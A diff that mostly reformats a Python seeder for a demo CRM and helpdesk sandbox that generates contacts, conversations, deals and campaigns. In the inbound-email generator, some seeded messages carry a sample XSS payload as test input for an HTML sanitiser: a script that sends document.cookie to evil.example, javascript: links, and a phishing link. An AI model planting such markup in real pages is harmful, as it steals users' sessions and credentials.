@@ -21,10 +21,18 @@ from mailtrixy_sandbox.conversations import text_to_html
 from mailtrixy_sandbox.db import Database, dumps
 
 TAGS = (
-    ("lead", "#3B82F6"), ("customer", "#10B981"), ("enterprise", "#8B5CF6"),
-    ("vip", "#F59E0B"), ("churned", "#EF4444"), ("trial", "#06B6D4"),
-    ("partner", "#EC4899"), ("newsletter", "#84CC16"), ("webinar", "#F97316"),
-    ("priority", "#DC2626"), ("smb", "#6366F1"), ("agency", "#14B8A6"),
+    ("lead", "#3B82F6"),
+    ("customer", "#10B981"),
+    ("enterprise", "#8B5CF6"),
+    ("vip", "#F59E0B"),
+    ("churned", "#EF4444"),
+    ("trial", "#06B6D4"),
+    ("partner", "#EC4899"),
+    ("newsletter", "#84CC16"),
+    ("webinar", "#F97316"),
+    ("priority", "#DC2626"),
+    ("smb", "#6366F1"),
+    ("agency", "#14B8A6"),
 )
 GROUPS = (
     ("Newsletter Subscribers", "Opted-in newsletter list", 0.35),
@@ -37,32 +45,74 @@ GROUPS = (
     ("Churn Risk", "Low activity in the last 60 days", 0.04),
 )
 TEAM = (
-    ("Alex Morgan", "owner"), ("Priya Raman", "support"), ("Diego Alvarez", "sales"),
-    ("Mei Chen", "support"), ("Tom Becker", "sales"), ("Fatima Okafor", "marketing"),
-    ("Lukas Novak", "support"), ("Sara Lindqvist", "sales"),
+    ("Alex Morgan", "owner"),
+    ("Priya Raman", "support"),
+    ("Diego Alvarez", "sales"),
+    ("Mei Chen", "support"),
+    ("Tom Becker", "sales"),
+    ("Fatima Okafor", "marketing"),
+    ("Lukas Novak", "support"),
+    ("Sara Lindqvist", "sales"),
 )
 LOCALES = (("en_US", 0.6), ("en_GB", 0.15), ("de_DE", 0.1), ("fr_FR", 0.08), ("es_ES", 0.07))
-DEPARTMENTS = ("Engineering", "Marketing", "Sales", "Finance", "Operations", "Support", "HR",
-               "Product", "Legal", "IT")
+DEPARTMENTS = (
+    "Engineering",
+    "Marketing",
+    "Sales",
+    "Finance",
+    "Operations",
+    "Support",
+    "HR",
+    "Product",
+    "Legal",
+    "IT",
+)
 PLANS = ("free", "starter", "growth", "business", "enterprise")
-LABELS = ("billing", "priority", "bug", "feature-request", "onboarding", "refund", "integration",
-          "account", "shipping", "feedback")
+LABELS = (
+    "billing",
+    "priority",
+    "bug",
+    "feature-request",
+    "onboarding",
+    "refund",
+    "integration",
+    "account",
+    "shipping",
+    "feedback",
+)
 STAGES = ("lead", "qualified", "proposal", "negotiation", "won", "lost")
+SUBJECT_SUFFIXES = ("what’s new", "don’t miss this", "for you, {{contact.name}}")
 CURRENCIES = (("USD", 0.6), ("EUR", 0.25), ("GBP", 0.15))
 
 SUBJECTS = (
-    "Billing question about invoice #{n}", "Can't log in since the update",
-    "Question about the {plan} plan", "Refund request for order {n}",
-    "Integration with Zapier not firing", "Export to CSV is missing columns",
-    "How do I add teammates?", "Feature request: dark mode for reports",
-    "Shipping delay on order {n}", "Our webhook stopped receiving events",
-    "Upgrade to annual billing", "Data import failed halfway",
-    "Password reset email never arrives", "GDPR data request", "Thanks for the quick fix!",
-    "Pricing for {seats} seats", "Calendar sync shows wrong time zone",
-    "API rate limit questions", "Cancel my subscription", "Onboarding call next week?",
+    "Billing question about invoice #{n}",
+    "Can't log in since the update",
+    "Question about the {plan} plan",
+    "Refund request for order {n}",
+    "Integration with Zapier not firing",
+    "Export to CSV is missing columns",
+    "How do I add teammates?",
+    "Feature request: dark mode for reports",
+    "Shipping delay on order {n}",
+    "Our webhook stopped receiving events",
+    "Upgrade to annual billing",
+    "Data import failed halfway",
+    "Password reset email never arrives",
+    "GDPR data request",
+    "Thanks for the quick fix!",
+    "Pricing for {seats} seats",
+    "Calendar sync shows wrong time zone",
+    "API rate limit questions",
+    "Cancel my subscription",
+    "Onboarding call next week?",
 )
 INBOUND_OPENERS = (
-    "Hi there,", "Hello support team,", "Hi {agent},", "Good morning,", "Hey,", "Dear MailTrixy team,",
+    "Hi there,",
+    "Hello support team,",
+    "Hi {agent},",
+    "Good morning,",
+    "Hey,",
+    "Dear MailTrixy team,",
 )
 INBOUND_BODIES = (
     "I was charged twice for last month and would like the duplicate refunded.",
@@ -140,15 +190,18 @@ class Seeder:
             email = f"{name.split()[0].lower()}@northwind-demo.com"
             rows.append((index, name, email, role, _ts(self.ago(700, 400))))
         self.db.conn.executemany(
-            "INSERT INTO team_members(id, name, email, role, created_at) VALUES (?,?,?,?,?)", rows)
+            "INSERT INTO team_members(id, name, email, role, created_at) VALUES (?,?,?,?,?)", rows
+        )
         return [(r[0], r[1]) for r in rows]
 
     def email_accounts(self) -> None:
         self.db.conn.executemany(
             "INSERT INTO email_accounts(id, email, name, verified) VALUES (?,?,?,?)",
-            [(1, "newsletter@northwind-demo.com", "Northwind Newsletter", 1),
-             (2, "support@northwind-demo.com", "Northwind Support", 1),
-             (3, "sales@northwind-new.com", "Sales (pending verification)", 0)],
+            [
+                (1, "newsletter@northwind-demo.com", "Northwind Newsletter", 1),
+                (2, "support@northwind-demo.com", "Northwind Support", 1),
+                (3, "sales@northwind-new.com", "Sales (pending verification)", 0),
+            ],
         )
 
     def tags(self) -> dict[str, int]:
@@ -166,7 +219,9 @@ class Seeder:
             rows.append((i, name, description, created, created))
         self.db.conn.executemany(
             "INSERT INTO contact_groups(id, name, description, created_at, updated_at) "
-            "VALUES (?,?,?,?,?)", rows)
+            "VALUES (?,?,?,?,?)",
+            rows,
+        )
         return [(i, share) for i, (_n, _d, share) in enumerate(GROUPS, start=1)]
 
     def _companies(self) -> list[tuple[str, str]]:
@@ -183,8 +238,9 @@ class Seeder:
             companies.append((name, _slug(name.split(",")[0])[:24] + ".com"))
         return companies
 
-    def contacts(self, tag_ids: dict[str, int], groups: list[tuple[int, float]]) -> list[
-            tuple[int, str]]:
+    def contacts(
+        self, tag_ids: dict[str, int], groups: list[tuple[int, float]]
+    ) -> list[tuple[int, str]]:
         rng = self.rng
         companies = self._companies()
         used: set[str] = set()
@@ -199,8 +255,12 @@ class Seeder:
             first, last = fake.first_name(), fake.last_name()
             name = f"{first} {last}"
             if rng.random() < 0.12:
-                company, domain = None, rng.choice(("gmail.com", "outlook.com", "proton.me",
-                                                   "yahoo.com", "icloud.com"))
+                company, domain = (
+                    None,
+                    rng.choice(
+                        ("gmail.com", "outlook.com", "proton.me", "yahoo.com", "icloud.com")
+                    ),
+                )
             else:
                 company, domain = rng.choice(companies)
             local = f"{_slug(first)}.{_slug(last)}"
@@ -224,10 +284,24 @@ class Seeder:
                 custom["newsletter_opt_in"] = rng.random() < 0.7
             created = self.ago(720, 1)
             updated = min(self.now, created + timedelta(days=rng.uniform(0, 120)))
-            contacted = (_ts(min(self.now, created + timedelta(days=rng.uniform(0, 200))))
-                         if rng.random() < 0.6 else None)
-            contact_rows.append((cid, name, email, company, phone, dumps(custom), contacted,
-                                 _ts(created), _ts(updated)))
+            contacted = (
+                _ts(min(self.now, created + timedelta(days=rng.uniform(0, 200))))
+                if rng.random() < 0.6
+                else None
+            )
+            contact_rows.append(
+                (
+                    cid,
+                    name,
+                    email,
+                    company,
+                    phone,
+                    dumps(custom),
+                    contacted,
+                    _ts(created),
+                    _ts(updated),
+                )
+            )
             for tid in rng.sample(tag_list, k=rng.choices((0, 1, 2, 3), (3, 4, 2, 1))[0]):
                 tag_rows.append((cid, tid))
             for gid, share in groups:
@@ -236,19 +310,23 @@ class Seeder:
             out.append((cid, name))
         self.db.conn.executemany(
             "INSERT INTO contacts(id, name, email, company, phone, custom_fields, "
-            "last_contacted_at, created_at, updated_at) VALUES (?,?,?,?,?,?,?,?,?)", contact_rows)
+            "last_contacted_at, created_at, updated_at) VALUES (?,?,?,?,?,?,?,?,?)",
+            contact_rows,
+        )
         self.db.conn.executemany(
-            "INSERT INTO contact_tags(contact_id, tag_id) VALUES (?,?)", tag_rows)
+            "INSERT INTO contact_tags(contact_id, tag_id) VALUES (?,?)", tag_rows
+        )
         self.db.conn.executemany(
-            "INSERT INTO group_members(group_id, contact_id, added_at) VALUES (?,?,?)",
-            member_rows)
+            "INSERT INTO group_members(group_id, contact_id, added_at) VALUES (?,?,?)", member_rows
+        )
         return out
 
     def _inbound_html(self, agent: str) -> tuple[str | None, str]:
         rng = self.rng
         opener = rng.choice(INBOUND_OPENERS).format(agent=agent.split()[0])
-        body = rng.choice(INBOUND_BODIES).format(plan=rng.choice(PLANS), seats=rng.randint(3, 80),
-                                                 n=rng.randint(10_000, 99_999))
+        body = rng.choice(INBOUND_BODIES).format(
+            plan=rng.choice(PLANS), seats=rng.randint(3, 80), n=rng.randint(10_000, 99_999)
+        )
         sign = self.fake.first_name()
         text = f"{opener}\n\n{body}\n\nThanks,\n{sign}"
         roll = rng.random()
@@ -256,20 +334,28 @@ class Seeder:
             return None, text
         html = text_to_html(text)
         if roll < 0.4:  # a newsletter-style mail with a tracking pixel and a tracked link
-            html += ('<p><a href="https://click.mailtrack-demo.net/r?u=https%3A%2F%2Fexample.com'
-                     '%2Forder">View your order</a></p>'
-                     '<img src="https://pixel.mailtrack-demo.net/open.gif?id='
-                     f'{rng.randint(1, 10**9)}" width="1" height="1" alt="">')
+            html += (
+                '<p><a href="https://click.mailtrack-demo.net/r?u=https%3A%2F%2Fexample.com'
+                '%2Forder">View your order</a></p>'
+                '<img src="https://pixel.mailtrack-demo.net/open.gif?id='
+                f'{rng.randint(1, 10**9)}" width="1" height="1" alt="">'
+            )
         elif roll < 0.5:  # something a sanitiser must neutralise
-            html += ('<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'
-                     '<p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a> or '
-                     '<a href="https://phish.example/login">https://example.com/account</a></p>')
+            html += (
+                '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'
+                '<p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a> or '
+                '<a href="https://phish.example/login">https://example.com/account</a></p>'
+            )
         elif roll < 0.6:
-            html += ('<p><img src="https://images.example-cdn.com/screenshots/error-'
-                     f'{rng.randint(100, 999)}.png" alt="Screenshot of the error"></p>')
+            html += (
+                '<p><img src="https://images.example-cdn.com/screenshots/error-'
+                f'{rng.randint(100, 999)}.png" alt="Screenshot of the error"></p>'
+            )
         return html, text
 
-    def conversations(self, contacts: list[tuple[int, str]], members: list[tuple[int, str]]) -> None:
+    def conversations(
+        self, contacts: list[tuple[int, str]], members: list[tuple[int, str]]
+    ) -> None:
         rng = self.rng
         conv_rows: list[tuple[Any, ...]] = []
         msg_rows: list[tuple[Any, ...]] = []
@@ -279,8 +365,9 @@ class Seeder:
             status = rng.choices(("open", "snoozed", "closed"), (5, 1, 4))[0]
             assignee = rng.choice(members) if rng.random() < 0.75 else None
             labels = rng.sample(LABELS, k=rng.choices((0, 1, 2), (3, 5, 2))[0])
-            subject = rng.choice(SUBJECTS).format(n=rng.randint(1000, 99999),
-                                                  plan=rng.choice(PLANS), seats=rng.randint(5, 200))
+            subject = rng.choice(SUBJECTS).format(
+                n=rng.randint(1000, 99999), plan=rng.choice(PLANS), seats=rng.randint(5, 200)
+            )
             created = self.ago(120, 0.02)
             moment = created
             count = rng.choices((1, 2, 3, 4, 5, 6), (3, 3, 2, 1, 1, 1))[0]
@@ -292,78 +379,163 @@ class Seeder:
                     sender = None
                 else:
                     fix = rng.choice(FIXES)
-                    text = rng.choice(OUTBOUND_BODIES).format(fix=fix, fix_cap=fix[0].upper()
-                                                              + fix[1:])
+                    text = rng.choice(OUTBOUND_BODIES).format(
+                        fix=fix, fix_cap=fix[0].upper() + fix[1:]
+                    )
                     text += f"\n\nBest,\n{(assignee or rng.choice(members))[1]}"
                     html = text_to_html(text)
                     sender = (assignee or rng.choice(members))[0]
-                msg_rows.append((message_id, conv_id, "inbound" if inbound else "outbound", html,
-                                 text, sender, "[]", "[]", _ts(moment)))
+                msg_rows.append(
+                    (
+                        message_id,
+                        conv_id,
+                        "inbound" if inbound else "outbound",
+                        html,
+                        text,
+                        sender,
+                        "[]",
+                        "[]",
+                        _ts(moment),
+                    )
+                )
                 if index < count - 1:
                     moment = min(self.now, moment + timedelta(hours=rng.uniform(0.2, 30)))
-            snoozed_until = (_ts(self.now + timedelta(hours=rng.uniform(2, 96)))
-                             if status == "snoozed" else None)
-            conv_rows.append((conv_id, subject, status, contact_id,
-                              assignee[0] if assignee else None, dumps(labels), count,
-                              _ts(moment), snoozed_until, _ts(created), _ts(moment)))
+            snoozed_until = (
+                _ts(self.now + timedelta(hours=rng.uniform(2, 96))) if status == "snoozed" else None
+            )
+            conv_rows.append(
+                (
+                    conv_id,
+                    subject,
+                    status,
+                    contact_id,
+                    assignee[0] if assignee else None,
+                    dumps(labels),
+                    count,
+                    _ts(moment),
+                    snoozed_until,
+                    _ts(created),
+                    _ts(moment),
+                )
+            )
         self.db.conn.executemany(
             "INSERT INTO conversations(id, subject, status, contact_id, assignee_id, labels, "
             "messages_count, last_message_at, snoozed_until, created_at, updated_at) "
-            "VALUES (?,?,?,?,?,?,?,?,?,?,?)", conv_rows)
+            "VALUES (?,?,?,?,?,?,?,?,?,?,?)",
+            conv_rows,
+        )
         self.db.conn.executemany(
             "INSERT INTO messages(id, conversation_id, direction, body_html, body_text, "
-            "sender_member_id, cc, bcc, created_at) VALUES (?,?,?,?,?,?,?,?,?)", msg_rows)
+            "sender_member_id, cc, bcc, created_at) VALUES (?,?,?,?,?,?,?,?,?)",
+            msg_rows,
+        )
 
     def deals(self, contacts: list[tuple[int, str]], members: list[tuple[int, str]]) -> None:
         rng = self.rng
         rows = []
-        products = ("Enterprise Plan", "Growth Plan renewal", "Onboarding package",
-                    "Annual licence", "Support upgrade", "Pilot", "Expansion seats",
-                    "Custom integration")
-        company_of = {r["id"]: r["company"] for r in self.db.all(
-            "SELECT id, company FROM contacts")}
+        products = (
+            "Enterprise Plan",
+            "Growth Plan renewal",
+            "Onboarding package",
+            "Annual licence",
+            "Support upgrade",
+            "Pilot",
+            "Expansion seats",
+            "Custom integration",
+        )
+        company_of = {
+            r["id"]: r["company"] for r in self.db.all("SELECT id, company FROM contacts")
+        }
         for deal_id in range(1, self.sizes.deals + 1):
             contact_id, contact_name = rng.choice(contacts)
-            stage = STAGES[deal_id % len(STAGES)] if deal_id <= 12 else rng.choices(
-                STAGES, (5, 4, 3, 2, 2, 2))[0]
+            stage = (
+                STAGES[deal_id % len(STAGES)]
+                if deal_id <= 12
+                else rng.choices(STAGES, (5, 4, 3, 2, 2, 2))[0]
+            )
             owner = company_of.get(contact_id) or contact_name
             title = f"{owner} – {rng.choice(products)}"
-            value = rng.choice((rng.randrange(500, 20_000, 50), rng.randrange(20_000, 250_000, 500)))
+            value = rng.choice(
+                (rng.randrange(500, 20_000, 50), rng.randrange(20_000, 250_000, 500))
+            )
             cents = rng.choice((0, 0, 0, 50, 99))
             created = self.ago(200, 1)
             updated = min(self.now, created + timedelta(days=rng.uniform(0, 60)))
-            close = (self.now + timedelta(days=rng.randint(-30, 120))).date().isoformat() \
-                if rng.random() < 0.8 else None
-            notes = rng.choice((None, "Initial discussion about their needs.",
-                                "Decision maker is the CFO; send ROI sheet.",
-                                "Waiting on legal review of the DPA."))
-            rows.append((deal_id, title, f"{value}.{cents:02d}" if cents else str(value),
-                         _pick_weighted(rng, CURRENCIES), stage, contact_id,
-                         rng.choice(members)[0] if rng.random() < 0.85 else None, close, notes,
-                         _ts(created), _ts(updated)))
+            close = (
+                (self.now + timedelta(days=rng.randint(-30, 120))).date().isoformat()
+                if rng.random() < 0.8
+                else None
+            )
+            notes = rng.choice(
+                (
+                    None,
+                    "Initial discussion about their needs.",
+                    "Decision maker is the CFO; send ROI sheet.",
+                    "Waiting on legal review of the DPA.",
+                )
+            )
+            rows.append(
+                (
+                    deal_id,
+                    title,
+                    f"{value}.{cents:02d}" if cents else str(value),
+                    _pick_weighted(rng, CURRENCIES),
+                    stage,
+                    contact_id,
+                    rng.choice(members)[0] if rng.random() < 0.85 else None,
+                    close,
+                    notes,
+                    _ts(created),
+                    _ts(updated),
+                )
+            )
         self.db.conn.executemany(
             "INSERT INTO deals(id, title, value, currency, stage, contact_id, assignee_id, "
             "expected_close_date, notes, created_at, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
-            rows)
+            rows,
+        )
 
     def campaigns(self, groups: list[tuple[int, float]]) -> None:
         rng = self.rng
         statuses = ("draft", "scheduled", "sending", "sent", "paused")
-        topics = ("Newsletter", "Product Update", "Webinar Invite", "Black Friday",
-                  "Customer Survey", "Feature Spotlight", "Onboarding Tips", "Renewal Reminder")
-        counts = {gid: int(self.db.scalar(
-            "SELECT COUNT(*) FROM group_members WHERE group_id = ?", (gid,)) or 0)
-            for gid, _s in groups}
+        topics = (
+            "Newsletter",
+            "Product Update",
+            "Webinar Invite",
+            "Black Friday",
+            "Customer Survey",
+            "Feature Spotlight",
+            "Onboarding Tips",
+            "Renewal Reminder",
+        )
+        counts = {
+            gid: int(
+                self.db.scalar("SELECT COUNT(*) FROM group_members WHERE group_id = ?", (gid,)) or 0
+            )
+            for gid, _s in groups
+        }
         rows = []
         for cid in range(1, self.sizes.campaigns + 1):
-            status = statuses[(cid - 1) % len(statuses)] if cid <= 5 else rng.choices(
-                statuses, (2, 1, 0.5, 6, 0.5))[0]
-            month = (self.now - timedelta(days=30 * (self.sizes.campaigns - cid) // 2))
+            status = (
+                statuses[(cid - 1) % len(statuses)]
+                if cid <= 5
+                else rng.choices(statuses, (2, 1, 0.5, 6, 0.5))[0]
+            )
+            month = self.now - timedelta(days=30 * (self.sizes.campaigns - cid) // 2)
             name = f"{month:%B} {rng.choice(topics)}"
             chosen = rng.sample([g for g, _s in groups], k=rng.randint(1, 2))
-            recipients = int(self.db.scalar(
-                "SELECT COUNT(DISTINCT contact_id) FROM group_members WHERE group_id IN "
-                f"({','.join('?' * len(chosen))})", chosen) or 0) if counts else 0  # noqa: S608
+            recipients = (
+                int(
+                    self.db.scalar(
+                        "SELECT COUNT(DISTINCT contact_id) FROM group_members WHERE group_id IN "
+                        f"({','.join('?' * len(chosen))})",
+                        chosen,
+                    )
+                    or 0
+                )
+                if counts
+                else 0
+            )
             created = self.ago(300, 2)
             schedule_at = sent_at = completed_at = None
             delivered = opened = clicked = bounced = unsubscribed = 0
@@ -380,32 +552,65 @@ class Seeder:
                 unsubscribed = round(delivered * rng.uniform(0.001, 0.006))
                 if status == "sent":
                     completed_at = _ts(created + timedelta(days=1, hours=2))
-            body = (f"<h1>{name}</h1><p>Hello {{{{contact.name}}}},</p>"
-                    "<p>Here is what's new at Northwind this month.</p>"
-                    '<p><img src="https://images.example-cdn.com/campaigns/hero.png" '
-                    'alt="Hero image"></p><p><a href="https://northwind-demo.com/news">Read more'
-                    "</a></p><p>You are receiving this as {{contact.email}}.</p>")
-            rows.append((cid, name, f"{name}: {rng.choice(('what’s new', 'don’t miss this', 'for you, {{contact.name}}'))}",
-                         status, "newsletter@northwind-demo.com", "Northwind", body,
-                         dumps(chosen), 1, recipients, delivered, opened, clicked, bounced,
-                         unsubscribed, schedule_at, sent_at, completed_at, _ts(created),
-                         _ts(created)))
+            body = (
+                f"<h1>{name}</h1><p>Hello {{{{contact.name}}}},</p>"
+                "<p>Here is what's new at Northwind this month.</p>"
+                '<p><img src="https://images.example-cdn.com/campaigns/hero.png" '
+                'alt="Hero image"></p><p><a href="https://northwind-demo.com/news">Read more'
+                "</a></p><p>You are receiving this as {{contact.email}}.</p>"
+            )
+            rows.append(
+                (
+                    cid,
+                    name,
+                    f"{name}: {rng.choice(SUBJECT_SUFFIXES)}",
+                    status,
+                    "newsletter@northwind-demo.com",
+                    "Northwind",
+                    body,
+                    dumps(chosen),
+                    1,
+                    recipients,
+                    delivered,
+                    opened,
+                    clicked,
+                    bounced,
+                    unsubscribed,
+                    schedule_at,
+                    sent_at,
+                    completed_at,
+                    _ts(created),
+                    _ts(created),
+                )
+            )
         self.db.conn.executemany(
             "INSERT INTO campaigns(id, name, subject, status, from_email, from_name, body_html, "
             "recipient_groups, email_account_id, recipients_count, delivered, opened, clicked, "
             "bounced, unsubscribed, schedule_at, sent_at, completed_at, created_at, updated_at) "
-            "VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)", rows)
+            "VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
+            rows,
+        )
 
     def webhooks(self) -> None:
         # External URLs are listed but never contacted (see webhook_delivery).
         self.db.conn.executemany(
             "INSERT INTO webhooks(url, events, secret, is_active, created_at) VALUES (?,?,?,?,?)",
-            [("https://hooks.zapier.com/hooks/catch/123456/abcdef/",
-              dumps(["contact.created", "contact.updated", "deal.stage_changed"]),
-              "whsec_demo_zapier_not_shown", 1, _ts(self.ago(90, 30))),
-             ("https://hook.eu1.make.com/demo-scenario",
-              dumps(["deal.won", "deal.lost"]), "whsec_demo_make_not_shown", 0,
-              _ts(self.ago(60, 10)))],
+            [
+                (
+                    "https://hooks.zapier.com/hooks/catch/123456/abcdef/",
+                    dumps(["contact.created", "contact.updated", "deal.stage_changed"]),
+                    "whsec_demo_zapier_not_shown",
+                    1,
+                    _ts(self.ago(90, 30)),
+                ),
+                (
+                    "https://hook.eu1.make.com/demo-scenario",
+                    dumps(["deal.won", "deal.lost"]),
+                    "whsec_demo_make_not_shown",
+                    0,
+                    _ts(self.ago(60, 10)),
+                ),
+            ],
         )
 
 
@@ -417,12 +622,22 @@ def seed_empty(db: Database) -> None:
     """A workspace with only what any workspace has: a team member and an email account."""
     now = clock.now_iso()
     with db.transaction():
-        db.execute("INSERT INTO team_members(id, name, email, role, created_at) "
-                   "VALUES (1, 'Sandbox Owner', 'owner@sandbox.test', 'owner', ?)", (now,))
-        db.execute("INSERT INTO team_members(id, name, email, role, created_at) "
-                   "VALUES (2, 'Support Agent', 'agent@sandbox.test', 'support', ?)", (now,))
-        db.execute("INSERT INTO email_accounts(id, email, name, verified) "
-                   "VALUES (1, 'newsletter@yourcompany.com', 'Newsletter', 1)")
-        db.execute("INSERT INTO email_accounts(id, email, name, verified) "
-                   "VALUES (2, 'hello@unverified.example', 'Not verified', 0)")
+        db.execute(
+            "INSERT INTO team_members(id, name, email, role, created_at) "
+            "VALUES (1, 'Sandbox Owner', 'owner@sandbox.test', 'owner', ?)",
+            (now,),
+        )
+        db.execute(
+            "INSERT INTO team_members(id, name, email, role, created_at) "
+            "VALUES (2, 'Support Agent', 'agent@sandbox.test', 'support', ?)",
+            (now,),
+        )
+        db.execute(
+            "INSERT INTO email_accounts(id, email, name, verified) "
+            "VALUES (1, 'newsletter@yourcompany.com', 'Newsletter', 1)"
+        )
+        db.execute(
+            "INSERT INTO email_accounts(id, email, name, verified) "
+            "VALUES (2, 'hello@unverified.example', 'Not verified', 0)"
+        )
         db.set_meta("workspace_name", "Sandbox")
